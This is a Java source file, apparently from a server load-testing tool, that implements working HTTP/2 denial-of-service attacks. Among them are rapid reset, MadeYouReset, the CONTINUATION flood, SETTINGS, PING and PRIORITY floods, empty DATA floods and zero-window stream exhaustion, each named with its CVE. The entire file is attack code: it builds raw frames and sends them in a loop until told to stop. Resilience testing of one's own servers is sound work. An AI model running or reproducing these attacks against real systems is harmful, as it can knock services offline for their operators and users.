package io.millrace.loadtest.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.BooleanSupplier;

/** Attacks by HTTP/2 frames (RFC 9113 §6, §10.5). */
final class Http2Attacks {
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int FRAMES_AT_ONCE = 200;
  private static final int FIELD_BLOCK_BYTES = 16_000;
  private static final int STREAMS = 100;
  private static final long SLOW_MS = 100;

  static final List<Attack> ALL =
      List.of(
          attack("HTTP/2 rapid reset, CVE-2023-44487", Http2Attacks::rapidReset),
          attack("HTTP/2 MadeYouReset, CVE-2025-55163", Http2Attacks::madeYouReset),
          attack("HTTP/2 CONTINUATION flood, CVE-2024-27316", Http2Attacks::continuations),
          attack("HTTP/2 fields without end", Http2Attacks::fieldsWithoutEnd),
          attack("HTTP/2 SETTINGS flood, CVE-2019-9515", repeated(SETTINGS, 0, new byte[0])),
          attack("HTTP/2 PING flood, CVE-2019-9512", repeated(PING, 0, new byte[8])),
          attack("HTTP/2 PRIORITY flood, CVE-2019-9513", repeated(PRIORITY, 1, new byte[5])),
          attack("HTTP/2 WINDOW_UPDATE flood", repeated(WINDOW_UPDATE, 0, number(1))),
          attack("HTTP/2 frames of unknown types", repeated(0x16, 0, new byte[8])),
          attack("HTTP/2 empty DATA flood, CVE-2019-9518", Http2Attacks::emptyData),
          attack("HTTP/2 windows that stay shut, CVE-2019-9511", Http2Attacks::shutWindows));

  /** What one connection does after its preface. */
  private interface OnConnection {
    boolean run(RawConnection connection, String path, BooleanSupplier goOn)
        throws InterruptedException;
  }

  private Http2Attacks() {}

  private static Attack attack(String name, OnConnection assault) {
    return new Attack(name, (server, path, goOn) -> connected(server, path, goOn, assault));
  }

  private static boolean connected(
      InetSocketAddress server, String path, BooleanSupplier goOn, OnConnection assault)
      throws IOException, InterruptedException {
    try (RawConnection connection = RawConnection.tls(server, "h2")) {
      ByteArrayOutputStream preface = new ByteArrayOutputStream();
      preface.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      frame(preface, SETTINGS, 0, 0, new byte[0]);
      connection.send(preface.toByteArray());
      return assault.run(connection, path, goOn);
    }
  }

  /** Requests that are given up at once. */
  private static boolean rapidReset(RawConnection on, String path, BooleanSupplier goOn) {
    return requests(on, path, goOn, RST_STREAM, number(8));
  }

  /** Requests that the server is made to give up: a window that grows by 0 (RFC 9113 §6.9). */
  private static boolean madeYouReset(RawConnection on, String path, BooleanSupplier goOn) {
    return requests(on, path, goOn, WINDOW_UPDATE, number(0));
  }

  private static boolean requests(
      RawConnection on, String path, BooleanSupplier goOn, int type, byte[] payload) {
    byte[] fields = fields("GET", path);
    int stream = 1;
    while (goOn.getAsBoolean()) {
      ByteArrayOutputStream frames = new ByteArrayOutputStream();
      for (int i = 0; i < FRAMES_AT_ONCE; i++, stream += 2) {
        frame(frames, HEADERS, END_STREAM | END_HEADERS, stream, fields);
        frame(frames, type, 0, stream, payload);
      }
      if (!on.send(frames.toByteArray())) {
        return true;
      }
    }
    return on.ended();
  }

  private static boolean continuations(RawConnection on, String path, BooleanSupplier goOn) {
    ByteArrayOutputStream head = new ByteArrayOutputStream();
    frame(head, HEADERS, END_STREAM, 1, fields("GET", path));
    on.send(head.toByteArray());
    return repeat(on, goOn, CONTINUATION, 1, new byte[0]);
  }

  private static boolean fieldsWithoutEnd(RawConnection on, String path, BooleanSupplier goOn) {
    ByteArrayOutputStream head = new ByteArrayOutputStream();
    frame(head, HEADERS, END_STREAM, 1, fields("GET", path));
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    while (block.size() < FIELD_BLOCK_BYTES) {
      literal(block, "x-field", "y".repeat(100));
    }
    frame(head, CONTINUATION, 0, 1, block.toByteArray());
    on.send(head.toByteArray());
    ByteArrayOutputStream next = new ByteArrayOutputStream();
    frame(next, CONTINUATION, 0, 1, block.toByteArray());
    while (goOn.getAsBoolean()) {
      if (!on.send(next.toByteArray())) {
        return true;
      }
    }
    return on.ended();
  }

  private static boolean emptyData(RawConnection on, String path, BooleanSupplier goOn) {
    ByteArrayOutputStream head = new ByteArrayOutputStream();
    frame(head, HEADERS, END_HEADERS, 1, fields("POST", path));
    on.send(head.toByteArray());
    return repeat(on, goOn, DATA, 1, new byte[0]);
  }

  /** Asks for much and takes nothing of it: what is asked for waits in the server's memory. */
  private static boolean shutWindows(RawConnection on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    frame(frames, SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0));
    for (int i = 0; i < STREAMS; i++) {
      frame(frames, HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, fields("GET", path));
    }
    on.send(frames.toByteArray());
    while (goOn.getAsBoolean() && on.resets() < STREAMS) {
      if (on.awaitEnd(SLOW_MS)) {
        return true;
      }
    }
    return on.resets() == STREAMS;
  }

  private static OnConnection repeated(int type, int stream, byte[] payload) {
    return (on, _, goOn) -> repeat(on, goOn, type, stream, payload);
  }

  private static boolean repeat(
      RawConnection on, BooleanSupplier goOn, int type, int stream, byte[] payload) {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    for (int i = 0; i < FRAMES_AT_ONCE; i++) {
      frame(frames, type, 0, stream, payload);
    }
    byte[] bytes = frames.toByteArray();
    while (goOn.getAsBoolean()) {
      if (!on.send(bytes)) {
        return true;
      }
    }
    return on.ended();
  }

  /** Literal fields without Huffman coding, :scheme out of the static table (RFC 7541 §6). */
  private static byte[] fields(String method, String path) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    literal(block, ":method", method);
    block.write(0x87); // :scheme https
    literal(block, ":path", path);
    literal(block, ":authority", "localhost");
    return block.toByteArray();
  }

  private static void literal(ByteArrayOutputStream block, String name, String value) {
    block.write(0);
    block.write(name.length());
    block.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
    if (value.length() >= 0x7f) {
      throw new IllegalArgumentException("a value of " + value.length() + " characters");
    }
    block.write(value.length());
    block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }

  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
    out.write(payload.length >> 16);
    out.write(payload.length >> 8);
    out.write(payload.length);
    out.write(type);
    out.write(flags);
    out.writeBytes(number(stream));
    out.writeBytes(payload);
  }

  private static byte[] setting(int identifier, int value) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(identifier >> 8);
    out.write(identifier);
    out.writeBytes(number(value));
    return out.toByteArray();
  }

  private static byte[] number(int value) {
    return new byte[] {
      (byte) (value >> 24), (byte) (value >> 16), (byte) (value >> 8), (byte) value
    };
  }
}
